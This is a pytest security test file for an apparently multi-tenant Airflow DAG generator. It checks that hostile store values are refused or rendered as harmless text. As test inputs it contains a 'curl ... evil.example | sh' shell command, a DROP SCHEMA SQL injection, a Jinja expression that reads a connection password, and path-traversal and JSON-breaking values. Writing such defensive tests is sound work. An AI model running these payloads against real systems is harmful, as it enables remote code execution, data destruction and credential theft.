"""Whoever writes a store row gains no more than that district's data: each way a hostile
row writer got more, through the real `fleet sync` (and `fleet validate`) over the
published baseline of tests/test_bad_input.py.

- no store value makes dagfleet import a module it names (operators, callables,
  legacy files): refused with one line before any import;
- a store value in a templated field renders, at run time, as its literal text
  (Airflow's own rendering, with a real connection holding a password);
- a value that lands in SQL or a path has the declared type of its param;
- a value naming a tenant's resource lies in that tenant's namespace.
"""

from __future__ import annotations

import json
import sys
import uuid
from pathlib import Path

import pytest

from composer.store import CustomerRow, IntegrationRow
from tests.airflow_render import render
from tests.conftest import add_customer
from tests.test_bad_input import (
    BAD,
    Baseline,
    E,
    assert_set_aside,
    both,
    customer,
    customer_params,
    edit_template,
    fresh_rows,
    grades_params,
    integration,
    new_customer,
    overrides,
    publish_baseline,
    run_sync,
)

PASSWORD = "s3cr3t-of-the-whole-environment"
READS_A_SECRET = "{{ conn.google_cloud_default.password }}"
BASH = "airflow.providers.standard.operators.bash.BashOperator"


@pytest.fixture(scope="module")
def baseline(tmp_path_factory, demo_snapshot) -> Baseline:
    return publish_baseline(tmp_path_factory.mktemp("baseline"), demo_snapshot)


@pytest.fixture
def probe_module(tmp_path, monkeypatch) -> tuple[str, Path]:
    """An importable module that leaves a file behind when anything imports it."""
    name = f"dagfleet_probe_{uuid.uuid4().hex[:12]}"
    sentinel = tmp_path / "imported"
    folder = tmp_path / "site"
    folder.mkdir()
    (folder / f"{name}.py").write_text(
        f"open({str(sentinel)!r}, 'w').write('imported')\n"
        "class Anything:\n    pass\n\n\ndef hook(context):\n    pass\n"
    )
    monkeypatch.syspath_prepend(str(folder))
    yield name, sentinel
    sys.modules.pop(name, None)


def sync(tmp_path, fleet_cli, baseline, edit, edit_templates=None):
    snapshot = add_customer(edit(baseline.snapshot), *fresh_rows())
    return run_sync(tmp_path, fleet_cli, baseline, snapshot, edit_templates)


# -- code a store value names ---------------------------------------------------------


@pytest.mark.parametrize("task_id", ["export_grades", "added_task"])
def test_an_override_operator_outside_the_allow_list_is_refused_before_it_is_imported(
    task_id, probe_module, tmp_path, fleet_cli, baseline
):
    module, sentinel = probe_module
    patch = {task_id: {"operator": f"{module}.Anything", "upstream": ["merge_grades"]}}
    outcome = sync(tmp_path, fleet_cli, baseline, overrides("grades", patch))
    field = f"task_overrides.{task_id}.operator"
    assert_set_aside(outcome, baseline, (E(BAD, "grades", field, "is not allowed"),))
    assert not sentinel.exists(), "the module a store value named was imported"
    assert module not in sys.modules


@pytest.mark.parametrize("operator", [BASH, "airflow.operators.bash.BashOperator"])
def test_an_override_cannot_add_a_shell_command_to_the_workers(
    operator, tmp_path, fleet_cli, baseline
):
    patch = {
        "pwn": {
            "operator": operator,
            "upstream": ["merge_grades"],
            "args": {"bash_command": "curl -s https://evil.example/x | sh"},
        }
    }
    outcome = sync(tmp_path, fleet_cli, baseline, overrides("grades", patch))
    assert_set_aside(
        outcome, baseline, (E(BAD, "grades", "task_overrides.pwn.operator", "is not allowed"),)
    )
    assert not any(b"evil.example" in content for content in outcome.files.values())


@pytest.mark.parametrize(
    ("arg", "value", "message"),
    [
        ("gcp_conn_id", "austin_isd_gcp", "chooses credentials"),
        ("impersonation_chain", ["sa@other.iam.gserviceaccount.com"], "chooses credentials"),
        ("run_as_user", "root", "not by a task override"),
        ("queue", "privileged", "not by a task override"),
    ],
)
def test_an_override_cannot_choose_the_credentials_or_the_place_a_task_runs_with(
    arg, value, message, tmp_path, fleet_cli, baseline
):
    patch = {"export_grades": {"args": {arg: value}}}
    outcome = sync(tmp_path, fleet_cli, baseline, overrides("grades", patch))
    field = f"task_overrides.export_grades.args.{arg}"
    assert_set_aside(outcome, baseline, (E(BAD, "grades", field, message),))


def test_an_override_may_name_a_connection_through_its_scoped_param(tmp_path, fleet_cli, baseline):
    patch = {"export_grades": {"args": {"gcp_conn_id": "{gcp_conn_id}"}}}
    assert sync(tmp_path, fleet_cli, baseline, overrides("grades", patch)).code == 0


def test_a_callback_outside_the_imports_is_refused_before_it_is_imported(
    probe_module, tmp_path, fleet_cli, baseline
):
    module, sentinel = probe_module
    patch = {"export_grades": {"args": {"on_success_callback": f"{module}.hook"}}}
    outcome = sync(tmp_path, fleet_cli, baseline, overrides("grades", patch))
    field = "task_overrides.export_grades.args.on_success_callback"
    assert_set_aside(outcome, baseline, (E(BAD, "grades", field, "not a callable listed"),))
    assert not sentinel.exists()


def test_a_customer_cannot_publish_another_customers_legacy_file(tmp_path, fleet_cli, baseline):
    """Two customers naming one legacy file published two files with one dag_id."""
    copycat = CustomerRow(
        "copycat-isd",
        "Copycat",
        "America/Los_Angeles",
        True,
        legacy_dag_file="lincoln_unified_legacy.py",
    )
    outcome = sync(tmp_path, fleet_cli, baseline, new_customer(copycat))
    assert outcome.code == 1
    assert [e[:3] for e in outcome.errors] == [("copycat-isd", None, "legacy_dag_file")]
    assert "legacy file of customer lincoln-unified" in outcome.errors[0][3]
    assert not any(path.startswith("copycat-isd/") for path in outcome.files)
    lincoln = "lincoln-unified/lincoln_unified_legacy.py"
    assert outcome.files[lincoln] == baseline.files[lincoln]


def test_an_unlisted_legacy_file_is_refused_before_it_is_run(tmp_path, fleet_cli, baseline):
    sentinel = tmp_path / "legacy-ran"

    def add_file(templates: Path) -> None:
        (templates / "legacy" / "planted.py").write_text(
            f"open({str(sentinel)!r}, 'w').write('ran')\n"
        )

    outcome = sync(tmp_path, fleet_cli, baseline, customer(legacy_dag_file="planted.py"), add_file)
    assert_set_aside(
        outcome,
        baseline,
        (E(BAD, None, "legacy_dag_file", "planted.py is not listed under legacy_files"),),
    )
    assert not sentinel.exists()


# -- Jinja -----------------------------------------------------------------------------


def rendered(folder: Path, dag_id: str, task_id: str, secret_env: pytest.MonkeyPatch):
    """The task as Airflow renders it for a run on 2024-05-01, with a real connection
    (from the environment, as the Secret Manager backend would serve it). The DAG is
    taken from the published folder (its shard file)."""
    from airflow.dag_processing.dagbag import DagBag

    secret_env.setenv(
        "AIRFLOW_CONN_GOOGLE_CLOUD_DEFAULT",
        json.dumps({"conn_type": "google_cloud_platform", "password": PASSWORD}),
    )
    bag = DagBag(dag_folder=str(folder))
    assert bag.import_errors == {}
    dag = bag.dags[dag_id]
    return render(dag.get_task(task_id))[0]


def test_a_store_value_in_a_templated_field_renders_as_its_literal_text(
    tmp_path, fleet_cli, baseline, monkeypatch
):
    """A param and override arguments holding `{{ conn.<id>.password }}` reach
    templated fields; Airflow renders them as that text, never as the password. The
    run-date variables stay usable, and a non-templated argument is written as is."""
    edit = both(
        integration("custom", params=json.dumps({"extract_name": READS_A_SECRET})),
        overrides(
            "grades",
            {
                "export_grades": {
                    "args": {
                        "function_id": READS_A_SECRET,
                        "input_data": {"day": "{{ ds }}", "raw": "{% raw %}" + READS_A_SECRET},
                        "api_version": READS_A_SECRET,  # not a templated field
                    }
                },
                # Ends with one of BigQueryCheckOperator's template_ext: a file to render.
                "grades_loaded": {"args": {"sql": "planted.sql"}},
            },
        ),
    )
    outcome = sync(tmp_path, fleet_cli, baseline, edit)
    assert outcome.code == 0, outcome.errors
    target = tmp_path / "dags"
    extract = rendered(target, f"{BAD}__custom", "run_extract", monkeypatch)
    query = extract.configuration["query"]["query"]
    assert query == (
        f"CALL `edu-data-platform.district_bad_isd.{READS_A_SECRET}`(DATE '2024-05-01', 'TX')"
    )
    export = rendered(target, f"{BAD}__main", "grades.export_grades", monkeypatch)
    assert export.function_id == READS_A_SECRET
    assert export.input_data["day"] == "2024-05-01"
    assert export.input_data["raw"] == "{% raw %}" + READS_A_SECRET
    assert export.api_version == READS_A_SECRET
    check = rendered(target, f"{BAD}__main", "grades.quality.grades_loaded", monkeypatch)
    assert check.sql == "planted.sql"
    assert PASSWORD not in repr(vars(export)) + repr(vars(extract))


# -- SQL and paths ---------------------------------------------------------------------


def test_a_table_param_cannot_carry_sql(tmp_path, fleet_cli, baseline):
    injected = "grades` ; DROP SCHEMA district_austin_isd CASCADE; --"
    outcome = sync(tmp_path, fleet_cli, baseline, grades_params(grades_table=injected))
    assert_set_aside(
        outcome, baseline, (E(BAD, "grades", "params.grades_table", "must be an identifier"),)
    )
    assert not any(b"DROP SCHEMA" in content for content in outcome.files.values())


@pytest.mark.parametrize(
    ("param", "value", "message"),
    [
        (
            "sis_base_url",
            'https://x.example", "client_secret_id": "powerschool-austin-isd',
            "https URL",
        ),
        ("export_prefix", "gs://edu-data-platform-landing/../austin-isd", "'..' path segments"),
    ],
    ids=["url-breaking-out-of-json", "prefix-with-dot-dot"],
)
def test_a_param_that_lands_in_a_payload_or_path_has_its_declared_type(
    param, value, message, tmp_path, fleet_cli, baseline
):
    outcome = sync(tmp_path, fleet_cli, baseline, grades_params(**{param: value}))
    assert_set_aside(outcome, baseline, (E(BAD, "grades", f"params.{param}", message),))


# -- tenants ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        (
            customer_params(dataset="district_austin_isd"),
            E(BAD, None, "params.dataset", "namespace 'district_bad_isd'"),
        ),
        (
            grades_params(export_prefix="gs://edu-data-platform-landing/powerschool/austin-isd"),
            E(BAD, "grades", "params.export_prefix", "namespace"),
        ),
        (
            integration(
                "classroom",
                params=json.dumps({"classroom_domain": "x.org", "output_prefix": "classroom/a"}),
            ),
            E(BAD, "classroom", "params.output_prefix", "namespace 'classroom/bad-isd'"),
        ),
        (
            customer_params(gcp_conn_id="austin_isd_gcp"),
            E(BAD, None, "params.gcp_conn_id", "namespace 'google_cloud_default'"),
        ),
    ],
    ids=["dataset", "export-prefix", "output-prefix", "connection"],
)
def test_a_customer_cannot_point_its_tasks_at_another_districts_resources(
    edit, expected, tmp_path, fleet_cli, baseline
):
    outcome = sync(tmp_path, fleet_cli, baseline, edit)
    assert_set_aside(outcome, baseline, (expected,))


def test_an_exception_in_the_fleet_settings_grants_exactly_one_value(tmp_path, fleet_cli, baseline):
    grant = edit_template(
        "fleet.yaml",
        "tenant_exceptions: {}",
        "tenant_exceptions: {bad-isd: {dataset: shared_reporting}}",
    )
    granted = sync(
        tmp_path / "ok", fleet_cli, baseline, customer_params(dataset="shared_reporting"), grant
    )
    assert granted.code == 0, granted.errors
    assert "shared_reporting" in granted.parts[BAD]
    other = sync(
        tmp_path / "no", fleet_cli, baseline, customer_params(dataset="shared_other"), grant
    )
    assert [e[:3] for e in other.errors] == [(BAD, None, "params.dataset")]


def test_validate_refuses_the_same_rows_and_writes_nothing(tmp_path, fleet_cli, baseline):
    from tests.conftest import make_store

    snapshot = overrides("grades", {"x": {"operator": BASH, "args": {"bash_command": "id"}}})(
        baseline.snapshot
    )
    snapshot = add_customer(
        snapshot,
        CustomerRow("tenant-b", "B", "America/Chicago", True, params='{"dataset": "district_x"}'),
        IntegrationRow(
            "tenant-b",
            "grades",
            "powerschool_grades",
            True,
            params='{"sis_base_url": "https://b.example"}',
        ),
    )
    store = make_store(tmp_path / "fleet.db", snapshot)
    code, _out, err = fleet_cli(
        "validate", "--store", store, "--templates", str(baseline.templates)
    )
    assert code == 1
    assert sorted(err.strip().splitlines()) == [
        f"error: customer {BAD}, integration grades, field task_overrides.x.operator: operator "
        f"'{BASH}' is not allowed: a store value may name only an operator that the templates "
        "use or fleet.yaml lists under operators",
        "error: customer tenant-b, field params.dataset: 'district_x' must lie in the "
        "customer's namespace 'district_tenant_b'",
    ]
    assert not (tmp_path / "dags").exists()


def test_a_param_the_template_declares_a_runtime_expression_is_rendered_by_airflow(
    tmp_path, fleet_cli, baseline, monkeypatch
):
    declare = edit_template(
        "custom_sync.yaml",
        'extract_name: {default: "extract_{customer_key}"}',
        'extract_name: {default: "extract_{customer_key}", runtime: true}',
    )
    day_before = "extract_{{ macros.ds_add(ds, -1) | replace('-', '') }}"
    edit = integration("custom", params=json.dumps({"extract_name": day_before}))
    outcome = sync(tmp_path, fleet_cli, baseline, edit, declare)
    assert outcome.code == 0, outcome.errors
    extract = rendered(tmp_path / "dags", f"{BAD}__custom", "run_extract", monkeypatch)
    assert "district_bad_isd.extract_20240430`" in extract.configuration["query"]["query"]
